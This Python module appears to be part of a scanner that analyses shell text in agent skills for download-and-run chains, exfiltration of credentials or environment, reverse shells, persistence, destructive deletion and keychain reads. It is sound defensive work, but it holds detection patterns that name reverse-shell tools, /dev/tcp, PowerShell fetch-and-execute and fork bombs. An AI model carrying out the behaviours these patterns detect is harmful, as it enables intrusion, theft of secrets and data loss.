"""What a shell text does."""

import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field

from atom.skills.findings import Rule, Severity
from atom.skills.ports import Language, Syntax
from atom.skills.scan import obfuscation, places
from atom.skills.scan.models import UNKNOWN, Inner, Kind, Label, Notes
from atom.skills.scan.offsets import Offsets
from atom.skills.scan.shell import tables
from atom.skills.scan.shell.commands import Command, commands_in
from atom.skills.scan.shell.words import Word, Words, walk

NAME = re.compile(r"[A-Za-z_]\w*")
VARIABLE = re.compile(r"\$\{?!?([A-Za-z_]\w*)")
REVERSE = re.compile(r"/dev/(tcp|udp)/")
SHELL_OF = re.compile(r"(^|[\s:'\"=,/])(/bin/|/usr/bin/)?(ba|z|da|k|c)?sh\b|cmd(\.exe)?|powershell", re.IGNORECASE)
SOCKET = re.compile(r"socket|TCPSocket|fsockopen|IO::Socket|Net\.Sockets|net\.connect", re.IGNORECASE)
SPAWNS = re.compile(r"\bexec\b|dup2|pty\.spawn|/bin/(ba)?sh|spawn\(|proc_open", re.IGNORECASE)
ENCODED = re.compile(r"-e(nc|ncodedcommand|c)?$", re.IGNORECASE)
FETCH_RUN = re.compile(
    r"(iex|invoke-expression)\b.{0,200}?(downloadstring|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient)"
    r"|(downloadstring|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b).{0,200}?\|\s*(iex|invoke-expression)\b",
    re.IGNORECASE | re.DOTALL,
)


def read(text: str, root: Syntax, notes: Notes) -> None:
    """Raises TooComplexError."""
    data = text.encode("utf-8", "replace")
    words = Words(Offsets.of(data), notes.budget)
    words.learn(root)
    Reader(notes, words).read(root)


@dataclass(slots=True)
class Reader:
    """`names` and `files`: what a variable, or a file that the text itself writes, holds."""

    notes: Notes
    words: Words
    names: dict[str, Label] = field(default_factory=dict)
    files: dict[str, Label] = field(default_factory=dict)

    def read(self, root: Syntax) -> None:
        nodes = walk(root, self.notes.budget)
        assigned = {
            self.words.raw(node)
            for node in nodes
            if node.kind == "variable_name" and node.field in {"name", "variable"}
        }
        for node in nodes:
            if node.kind == "variable_assignment":
                self._assignment(node)
            elif node.kind == "pipeline":
                self._pipeline(node)
            elif node.kind == "redirected_statement":
                self._redirected(node)
            elif node.kind == "command":
                self._command(next(commands_in(self.words, node)))
            elif node.kind in {"simple_expansion", "expansion"}:
                self._variable(node, assigned)
            elif node.kind == "function_definition" and ":|:" in self.words.raw(node).replace(" ", "")[:80]:
                self._suspect(Rule.SCAN_DESTRUCTIVE, Severity.WARNING, node, "It starts itself over and over.")

    def _suspect(self, rule: Rule, severity: Severity, node: Syntax, message: str) -> None:
        self.notes.suspect(rule, severity, self._at(node), message)

    def _at(self, node: Syntax) -> int:
        return self.words.offsets.character(node.start)

    def _act(self, kind: Kind, value: str, node: Syntax) -> None:
        self.notes.act(kind, value, self._at(node))

    def _variable(self, node: Syntax, assigned: set[str]) -> None:
        match = VARIABLE.match(self.words.raw(node))
        name = match[1] if match else ""
        if name.isupper() and name not in assigned and name not in tables.KNOWN_VARIABLES:
            self._act(Kind.ENV, name, node)

    def _assignment(self, node: Syntax) -> None:
        name, value = node.of("name"), node.of("value")
        if name is not None and value is not None and (found := self.labels(value)):
            key = self.words.raw(name)
            self.names[key] = self.names.get(key, Label.NONE) | found

    # Where values come from.

    def labels(self, node: Syntax) -> Label:
        """Of everything below a node together."""
        found = Label.NONE
        for one in walk(node, self.notes.budget):
            if one.kind in {"simple_expansion", "expansion"} and (match := VARIABLE.match(self.words.raw(one))):
                found |= self.names.get(match[1], Label.NONE)
            elif one.kind == "command":
                found |= self.of_command(next(commands_in(self.words, one)))
        return found

    def of_command(self, command: Command) -> Label:
        """What a command puts out."""
        program, found = command.program, Label.NONE
        if program in tables.FETCHERS:
            found |= Label.DOWNLOADED
        if program in tables.DECODERS or (
            program in {"base64", "openssl"} and command.has("-d", "-D", "--decode", "-di", "-Dd")
        ):
            found |= Label.DECODED if program != "tr" or command.has("A-Za-z") else Label.NONE
        if (program in {"env", "printenv", "set"} and not command.arguments) or (
            program in {"export", "declare"} and command.has("-p", "-x")
        ):
            found |= Label.ENVIRONMENT
        if program == "security" and command.has(
            "find-generic-password", "find-internet-password", "dump-keychain", "export"
        ):
            found |= Label.CREDENTIAL
        for word in [*command.arguments, *(one.place for one in command.redirects if one.operator == "<")]:
            found |= self.of_word(word, program)
        return found

    def of_word(self, word: Word, program: str) -> Label:
        text = word.text.rpartition("=@")[2].rpartition("@")[2] if "@" in word.text else word.text
        found = self.files.get(text, Label.NONE)
        if program not in tables.KEY_USERS - {"cp", "mv", "scp", "rsync"} and places.is_credential(text):
            found |= Label.CREDENTIAL
        if program not in tables.KEY_USERS and (places.is_own_secret(text) or places.is_agent_file(text)):
            found |= Label.OWN_SECRET
        return found

    # What is done with them.

    def _pipeline(self, node: Syntax) -> None:
        before, downloads = Label.NONE, None
        literal: Word | None = None
        for stage in node.children:
            for command in commands_in(self.words, stage):
                if before or literal is not None:
                    self._receives(command, before, downloads, literal)
                before |= self.of_command(command) | (self.labels(command.node) & Label.CREDENTIAL)
                downloads = command if command.program in tables.FETCHERS else downloads
                said = command.program in {"echo", "printf", "cat"}
                literal = (
                    ([*command.arguments, *command.texts] or [None])[-1]
                    if said
                    else literal
                    if command.program == "tee"
                    else None
                )

    def _receives(self, command: Command, before: Label, downloads: Command | None, literal: Word | None) -> None:
        if self.interprets(command):
            self.runs(before, command.node, downloads)
            if literal is not None and not before:
                self.inner(command, literal)
        if command.program in tables.SENDERS:
            self.sends(before, command.node)
        if (
            command.program in {"crontab", "at", "batch"}
            and command.arguments[:1] != []
            and command.arguments[-1].text == "-"
        ):
            self._suspect(
                Rule.SCAN_PERSISTENCE, Severity.WARNING, command.node, "It adds a job that runs later, again and again."
            )

    def interprets(self, command: Command) -> bool:
        """Whether it runs what it is given as input."""
        if command.program not in tables.INTERPRETERS | tables.LANGUAGES and command.program not in {"source", "."}:
            return False
        plain = [word.text for word in command.arguments if not word.text.startswith("-")]
        if any(word.text.lower() in tables.CODE_OPTIONS for word in command.arguments):
            return False  # what comes in is data then
        return (
            not plain or plain[0] in {"/dev/stdin", "-"} or command.has("-s", "-") or command.program in {"source", "."}
        )

    def inner(self, command: Command, literal: Word) -> None:
        language = Language.SHELL if command.program in tables.INTERPRETERS else LANGUAGES.get(command.program)
        if language is not None:
            self.notes.inner.append(Inner(language, literal.text, self._at(literal.node)))

    def runs(self, labels: Label, node: Syntax, downloads: Command | None = None) -> None:
        """A shell, or another interpreter, is given what has `labels`."""
        if Label.DECODED in labels:
            self._suspect(Rule.SCAN_DECODE_RUN, Severity.ERROR, node, "It runs what it decodes just before.")
        if Label.DOWNLOADED in labels:
            texts = [word.text for word in downloads.words] if downloads is not None else [self.words.raw(node)[:2000]]
            hosts = [host for text in texts for host in places.hosts(text)]
            severity = (
                Severity.ERROR
                if any(places.is_public_address(one) or places.PASTES.search(one) for one in hosts)
                else Severity.WARNING
            )
            if any(tables.INSTALLERS.search(text[text.find("http") :] if "http" in text else text) for text in texts):
                severity = Severity.INFO
            self._suspect(Rule.SCAN_DOWNLOAD_RUN, severity, node, "It runs what it gets from the network.")

    def sends(self, labels: Label, node: Syntax) -> None:
        for label, severity, what in SENT:
            if label in labels:
                self._suspect(Rule.SCAN_EXFILTRATION, severity, node, f"{what} goes to the network here.")

    def _redirected(self, node: Syntax) -> None:
        found = list(commands_in(self.words, node))
        labels = Label.NONE
        for command in found:
            labels |= self.of_command(command)
        for command in found:
            for one in command.redirects:
                self.redirect(command, one.operator, one.place, labels)
            for text in command.texts:
                self._here(command, text)

    def redirect(self, command: Command, operator: str, place: Word, labels: Label) -> None:
        if REVERSE.search(place.text):
            interactive = command.program in tables.INTERPRETERS or command.program in {"exec", "cat", ""}
            severity = Severity.ERROR if command.program in tables.INTERPRETERS else Severity.WARNING
            if interactive:
                self._suspect(Rule.SCAN_REVERSE_SHELL, severity, place.node, f"A shell is connected to {place.text}.")
            self._act(Kind.NETWORK, place.text.split("/")[3] if place.text.count("/") > 3 else UNKNOWN, place.node)
        elif ">" in operator and not operator.startswith((">&", "<&")):
            self.writes(place, command)
            if labels & (Label.DOWNLOADED | Label.DECODED | Label.CREDENTIAL | Label.ENVIRONMENT):
                self.files[place.text] = self.files.get(place.text, Label.NONE) | labels

    def writes(self, place: Word, command: Command) -> None:
        judged = places.written(place.text)
        if judged is not None:
            setting = command.program in {"echo", "printf"} and any(
                SETTING.match(word.text) for word in command.arguments
            )
            severity = Severity.INFO if setting and judged.rule is Rule.SCAN_PERSISTENCE else judged.severity
            self._suspect(judged.rule, severity, place.node, judged.message)
        if places.is_noted(place.text) and "$" not in place.text:
            self._act(Kind.WRITE, places.normal(place.text), place.node)

    def _here(self, command: Command, text: Word) -> None:
        if self.interprets(command):
            if SUBSTITUTED.search(text.text) and command.texts and "herestring" not in text.node.kind:
                self.runs(self.labels(text.node), command.node)
            self.inner(command, text)
            return
        for one in command.redirects:
            language = SUFFIXES.get(one.place.text.rpartition(".")[2]) if ">" in one.operator else None
            if language is not None:
                self.notes.inner.append(Inner(language, text.text, self._at(text.node)))

    def _command(self, command: Command) -> None:
        from_words = [word for word in command.words if word.node.kind != "heredoc_body"]
        if not from_words:
            return
        program = command.program
        self.note_program(command, program)
        for word in command.arguments:
            self._word(command, word)
        for method in (*EVERY, *(ACTS[program] if program in ACTS else ())):
            method(self, command)

    def note_program(self, command: Command, program: str) -> None:
        name = command.words[0]
        if name.hidden and (program in tables.INTERPRETERS | tables.LANGUAGES | tables.SENDERS or program == "base64"):
            self._suspect(
                Rule.SCAN_OBFUSCATION, Severity.WARNING, name.node, f"It calls {program} in a way that hides it."
            )
        if "$" in program or not program:
            self._act(Kind.COMMAND, UNKNOWN, command.node)
        elif program not in tables.PLAIN and not program.startswith((".", "-")):
            self._act(Kind.COMMAND, program[:100], command.node)

    def _word(self, command: Command, word: Word) -> None:
        text = word.text
        for host in places.hosts(text):
            if command.program not in tables.PLAIN - {"cat"}:
                self._host(host, word.node)
        if command.program in tables.SENDERS and places.METADATA.search(text.split("/")[0]):
            self._host(text.split("/")[0], word.node)
        place = text.rpartition("@")[2] if "@" in text else text.rpartition("=")[2] if text.startswith("-") else text
        judged = places.read(place) if command.program not in tables.KEY_USERS - {"cp", "mv", "find", "grep"} else None
        if judged is not None and not any(one in command.words[0].text for one in ("keytool",)):
            self._suspect(judged.rule, judged.severity, word.node, judged.message)
        elif (
            places.is_noted(place)
            and "$" not in place
            and command.program not in {"sed", "echo", "printf", "grep", "awk"}
        ):
            self._act(Kind.READ, places.normal(place), word.node)
        blob = obfuscation.of_text(text)
        if blob is not None:
            self._suspect(blob.rule, blob.severity, word.node, blob.message)

    def _host(self, host: str, node: Syntax) -> None:
        self._act(Kind.NETWORK, host, node)
        judged = places.host(host)
        if judged is not None:
            self._suspect(judged.rule, judged.severity, node, judged.message)

    def destination(self, command: Command) -> Word | None:
        """Where a copying command writes: its last word."""
        plain = [word for word in command.arguments if not word.text.startswith("-")]
        return plain[-1] if len(plain) > 1 else None


SETTING = re.compile(r"\s*(export|set|setenv|alias|eval|source|\.)?\s*[A-Za-z_$\"(./~-][^;|&`]{0,300}$", re.DOTALL)
SUBSTITUTED = re.compile(r"\$\(|`")
LANGUAGES: Mapping[str, Language] = {
    "python": Language.PYTHON, "python2": Language.PYTHON, "python3": Language.PYTHON, "node": Language.JAVASCRIPT, "bun": Language.JAVASCRIPT,
    "deno": Language.JAVASCRIPT,
}  # fmt: skip
SUFFIXES = {
    "sh": Language.SHELL,
    "bash": Language.SHELL,
    "py": Language.PYTHON,
    "js": Language.JAVASCRIPT,
    "mjs": Language.JAVASCRIPT,
}
SENT = (
    (Label.CREDENTIAL, Severity.ERROR, "What lies where credentials lie"),
    (Label.ENVIRONMENT, Severity.ERROR, "The whole environment"),
    (Label.OWN_SECRET, Severity.WARNING, "What a file of secrets, or of an agent's memory, holds"),
)


# What single programs do.


def _runs_argument(reader: Reader, command: Command) -> None:
    """`bash -c X`, `eval X`, `python -c X`, `bash <(X)`, `source X`."""
    program = command.program
    interpreter = program in tables.INTERPRETERS | tables.LANGUAGES
    if not interpreter and program not in {"eval", "source", ".", "trap"}:
        return
    after = False
    for word in command.arguments:
        option = word.text.lower()
        if word.node.kind == "process_substitution":
            reader.runs(reader.labels(word.node), command.node, _fetcher(reader, word.node))
        elif program == "eval" or after:
            _runs_text(reader, command, word)
            after = False
        elif interpreter and ENCODED.match(option) and program in {"powershell", "pwsh"}:
            reader._suspect(
                Rule.SCAN_DECODE_RUN,
                Severity.ERROR,
                word.node,
                "PowerShell is given a command that is hidden in encoded text.",
            )
        elif interpreter and option in tables.CODE_OPTIONS:
            after = True
    for word in command.texts:
        if interpreter or program in {"source", "."}:
            reader.runs(reader.labels(word.node), command.node)


def _runs_text(reader: Reader, command: Command, word: Word) -> None:
    labels = reader.labels(word.node)
    fetcher = _fetcher(reader, word.node)
    if labels & (Label.DOWNLOADED | Label.DECODED) and (word.node.kind != "raw_string"):
        reader.runs(labels, command.node, fetcher)
    elif word.hidden:
        reader._suspect(
            Rule.SCAN_DECODE_RUN, Severity.ERROR, word.node, "It runs a command that is hidden in encoded text."
        )
        reader.inner(Command(command.node, [Word("sh", command.node)]), word)
    else:
        shell = command.program in tables.INTERPRETERS | {"eval"}
        reader.inner(Command(command.node, [Word("sh", command.node)]) if shell else command, word)
        _scripted(reader, command, word)


def _scripted(reader: Reader, command: Command, word: Word) -> None:
    """A line of Perl, Ruby, PHP, AppleScript or PowerShell."""
    if (
        SOCKET.search(word.text)
        and SPAWNS.search(word.text)
        and command.program in {"perl", "ruby", "php", "powershell", "pwsh", "lua"}
    ):
        reader._suspect(
            Rule.SCAN_REVERSE_SHELL, Severity.ERROR, word.node, "It gives a shell to whoever it connects to."
        )
    if FETCH_RUN.search(word.text[:5000]):
        reader._suspect(Rule.SCAN_DOWNLOAD_RUN, Severity.WARNING, word.node, "It runs what it gets from the network.")
    for line in (
        re.findall(r'do shell script\s+"((?:[^"\\]|\\.)*)"', word.text[:5000]) if command.program == "osascript" else ()
    ):
        reader.notes.inner.append(Inner(Language.SHELL, line.replace('\\"', '"'), reader._at(word.node)))


def _fetcher(reader: Reader, node: Syntax) -> Command | None:
    found = (next(commands_in(reader.words, one)) for one in walk(node, reader.notes.budget) if one.kind == "command")
    return next((one for one in found if one.program in tables.FETCHERS), None)


def _runs_file(reader: Reader, command: Command) -> None:
    """A file that the text itself has downloaded or decoded."""
    program = command.words[0].text
    started = [program] if "/" in program or program in reader.files else []
    if command.program in tables.INTERPRETERS | tables.LANGUAGES | {"source", ".", "chmod", "open", "start"}:
        started += [word.text for word in command.arguments if not word.text.startswith("-")]
    for path in started:
        labels = reader.files.get(path, Label.NONE) | reader.files.get(path.removeprefix("./"), Label.NONE)
        if command.program == "chmod" and not command.has("+x", "755", "777", "u+x", "a+x", "700", "0755"):
            continue
        reader.runs(labels & (Label.DOWNLOADED | Label.DECODED), command.node)


def _fetch(reader: Reader, command: Command) -> None:
    """What it sends, and the file that it downloads to."""
    words = [word.text for word in command.arguments]
    if not any(places.hosts(text) for text in words):
        bare = next((text for text in words if BARE.fullmatch(text)), None)
        reader._act(Kind.NETWORK, places.host_of(bare.split("/")[0]) if bare else UNKNOWN, command.node)
        judged = places.host(bare.split("/")[0].rpartition(":")[0] or bare.split("/")[0]) if bare else None
        if judged is not None:
            reader._suspect(judged.rule, judged.severity, command.node, judged.message)
    reader.sends(_given(reader, command), command.node)
    for path in _saved(command.program, words):
        reader.files[path] = reader.files.get(path, Label.NONE) | Label.DOWNLOADED
        reader.writes(Word(path, command.node), command)


def _given(reader: Reader, command: Command) -> Label:
    """Not the file of a key or of cookies that it identifies itself with."""
    found, skip = Label.NONE, False
    for word in command.arguments:
        if not skip:
            found |= reader.of_word(word, command.program) | reader.labels(word.node)
        skip = word.text in IDENTITY
    for one in command.redirects:
        found |= reader.of_word(one.place, command.program) if one.operator == "<" else Label.NONE
    for text in command.texts:
        found |= reader.labels(text.node)
    return found & ~Label.DOWNLOADED


def _saved(program: str, words: Sequence[str]) -> Iterator[str]:
    options = (
        {"-o", "--output", "-O", "--output-document", "-OutFile", "-outfile", "-d"}
        if program != "curl"
        else {"-o", "--output"}
    )
    named = [
        words[n + 1]
        for n, word in enumerate(words[:-1])
        if word in options or (program == "curl" and re.fullmatch(r"-[a-zA-Z]*o", word))
    ]
    named += [word[2:] for word in words if program == "curl" and word.startswith("-o") and len(word) > 2]
    yield from (one for one in named if one != "-")
    remote = program == "curl" and any(re.fullmatch(r"-[a-zA-Z]*O|--remote-name", word) for word in words)
    if remote or (program in {"wget", "aria2c"} and not named):
        for word in words:
            if places.URL_START.search(word):
                yield word.split("?")[0].rstrip("/").rpartition("/")[2]


def _connect(reader: Reader, command: Command) -> None:
    plain = [word.text for word in command.arguments if not word.text.startswith("-")]
    first = next((one for one in plain if "." in one or "@" in one or ":" in one), "")
    host = places.host_of(first.split("/")[0].partition(":")[0]) if first else UNKNOWN
    reader._act(Kind.NETWORK, host if "$" not in first else UNKNOWN, command.node)
    if command.program in {"nc", "ncat", "netcat", "socat"}:
        executes = command.has("-e", "-c", "--exec", "--sh-exec", "-lvpe", "-nve") or any(
            "EXEC:" in one.upper() or "SYSTEM:" in one.upper() for one in plain
        )
        if executes and any(SHELL_OF.search(one) for one in plain):
            reader._suspect(
                Rule.SCAN_REVERSE_SHELL, Severity.ERROR, command.node, "It gives a shell to whoever it connects to."
            )
        judged = places.host(host)
        if judged is not None and not executes:
            reader._suspect(judged.rule, judged.severity, command.node, judged.message)
    reader.sends(_given(reader, command), command.node)


def _persist(reader: Reader, command: Command) -> None:
    words = [word.text.lower() for word in command.arguments]
    said = {
        "crontab": bool(words) and not {"-l", "-r", "-e"} & set(words),
        "systemctl": "enable" in words,
        "launchctl": bool({"load", "bootstrap", "submit", "enable"} & set(words)),
        "schtasks": "/create" in words,
        "reg": "add" in words and any("currentversion\\run" in word or "currentversionrun" in word for word in words),
        "update-rc.d": True, "chkconfig": "on" in words,
        "git": "config" in words and any("hookspath" in word for word in words),
        "defaults": any("loginhook" in word for word in words), "at": bool(words),
        "register-scheduledtask": True, "new-scheduledtask": True,
    }.get(command.program, False)  # fmt: skip
    if said:
        reader._suspect(
            Rule.SCAN_PERSISTENCE,
            Severity.WARNING,
            command.node,
            f"{command.program} makes something run later, without being asked.",
        )


def _copy(reader: Reader, command: Command) -> None:
    place = reader.destination(command)
    if place is not None:
        reader.writes(place, command)
        sources = [word for word in command.arguments if word is not place]
        for word in sources:
            labels = reader.of_word(word, "cat") & (
                Label.CREDENTIAL | Label.OWN_SECRET | Label.DOWNLOADED | Label.DECODED
            )
            if labels:
                reader.files[place.text] = reader.files.get(place.text, Label.NONE) | labels


def _archive(reader: Reader, command: Command) -> None:
    labels = Label.NONE
    for word in command.arguments:
        labels |= reader.of_word(word, "cat") & Label.CREDENTIAL
    for word in command.arguments if labels else ():
        if not word.text.startswith("-") and not places.is_credential(word.text):
            reader.files[word.text] = reader.files.get(word.text, Label.NONE) | labels


def _tee(reader: Reader, command: Command) -> None:
    for word in command.arguments:
        if not word.text.startswith("-"):
            reader.writes(word, command)


def _edit(reader: Reader, command: Command) -> None:
    if (
        any(word.text.startswith("-i") for word in command.arguments)
        and (place := reader.destination(command)) is not None
    ):
        reader.writes(place, command)


def _destroy(reader: Reader, command: Command) -> None:
    words = [word.text for word in command.arguments]
    recursive = any(re.fullmatch(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive", word) for word in words)
    broad = any(word in tables.ROOTS for word in words)
    said = {"rm": recursive and broad, "chmod": recursive and broad, "chown": recursive and broad, "shred": broad,
            "dd": any(re.match(r"of=/dev/(sd|nvme|disk|hd|mmcblk)", word) for word in words),
            "find": "-delete" in words and bool(words) and words[0] in tables.ROOTS}  # fmt: skip
    if said.get(command.program) or command.program.startswith("mkfs"):
        reader._suspect(
            Rule.SCAN_DESTRUCTIVE,
            Severity.WARNING,
            command.node,
            "It deletes or overwrites far more than a skill's own files.",
        )


def _keychain(reader: Reader, command: Command) -> None:
    if (
        command.program == "security"
        and command.has("find-generic-password", "find-internet-password", "dump-keychain", "export")
    ) or (command.program == "secret-tool" and command.has("lookup", "search")):
        reader._suspect(
            Rule.SCAN_CREDENTIALS, Severity.WARNING, command.node, "It reads what other programs keep secret."
        )


def _install(reader: Reader, command: Command) -> None:
    words = [word.text for word in command.words]
    if command.program == "python" and words[1:3] == ["-m", "pip"]:
        words = words[2:]
    if command.program == "uv" and words[1:2] == ["pip"]:
        words = words[1:]
    program = words[0].rpartition("/")[2]
    verb = next((word for word in words[1:] if not word.startswith("-")), "")
    system = tables.PACKAGERS.get((program, verb)) or tables.PACKAGERS.get((program, ""))
    if system is None:
        return
    rest = words[words.index(verb) + 1 :] if (program, verb) in tables.PACKAGERS else words[1:]
    one_only = program in {"npx", "bunx", "uvx"} or verb in {"exec", "dlx", "run"}
    skip, found = False, 0
    for word in rest:
        if not skip and not word.startswith("-") and not (one_only and found):
            found += 1
            reader.notes.act(Kind.PACKAGE, f"{system}:{word[:200]}", reader._at(command.node))
        skip = word in tables.PACKAGE_VALUES or word in INDEX_OPTIONS
    for number, word in enumerate(words):
        option, _, value = word.partition("=")
        if option in INDEX_OPTIONS and (program != "npx" or option != "-i"):
            address = value or (words[number + 1] if number + 1 < len(words) else "")
            if places.URL_START.search(address) and not tables.OFFICIAL.search(address):
                reader._suspect(
                    Rule.SCAN_PACKAGE_SOURCE, Severity.WARNING, command.node, f"Packages come from {address[:100]}."
                )


def _fifo(reader: Reader, command: Command) -> None:
    """`mkfifo f; sh < f | nc host 1 > f`."""
    text = reader.words.offsets.data.decode("utf-8", "replace")[:200_000]
    if re.search(r"\b(nc|ncat|netcat|telnet|openssl s_client)\b", text) and re.search(
        r"\b(ba|z)?sh\b\s+-i|/bin/(ba)?sh\b", text
    ):
        reader._suspect(
            Rule.SCAN_REVERSE_SHELL, Severity.ERROR, command.node, "It gives a shell to whoever it connects to."
        )


def _find(reader: Reader, command: Command) -> None:
    words = command.arguments
    at = next((n for n, word in enumerate(words) if word.text in {"-exec", "-execdir", "-ok"}), None)
    if at is not None and at + 1 < len(words):
        reader._command(Command(command.node, [word for word in words[at + 1 :] if word.text not in {";", "+", "{}"}]))


def _each(
    names: Iterable[str], method: Callable[[Reader, Command], None]
) -> dict[str, tuple[Callable[[Reader, Command], None], ...]]:
    return {name: (method,) for name in names}


BARE = re.compile(r"[\w-]+(\.[\w-]+)+(:\d+)?(/\S*)?|localhost(:\d+)?(/\S*)?")
IDENTITY = {
    "--cert",
    "--key",
    "-i",
    "-E",
    "--netrc-file",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "--cacert",
    "-F",
    "-o",
    "--output",
    "-K",
    "--config",
} - {"-F", "-o", "--output"}
INDEX_OPTIONS = set(tables.INDEXES)
EVERY: Sequence[Callable[[Reader, Command], None]] = (_runs_argument, _runs_file)
ACTS: Mapping[str, Sequence[Callable[[Reader, Command], None]]] = {
    **_each(tables.FETCHERS, _fetch),
    **_each(tables.CONNECTORS, _connect),
    **_each(("crontab", "systemctl", "launchctl", "schtasks", "reg", "update-rc.d", "chkconfig", "git", "defaults", "at"), _persist),
    **_each(("register-scheduledtask", "new-scheduledtask"), _persist),
    **_each(tables.COPIERS - tables.CONNECTORS, _copy),
    **_each(tables.ARCHIVERS, _archive),
    **_each(("rm", "dd", "shred", "mkfs", "mkfs.ext4", "chmod", "chown"), _destroy),
    **_each({program for program, _ in tables.PACKAGERS} | {"python", "uv"}, _install),
    "tee": (_tee,), "sed": (_edit,), "security": (_keychain,), "secret-tool": (_keychain,), "mkfifo": (_fifo,), "mknod": (_fifo,),
    "find": (_destroy, _find),
}  # fmt: skip
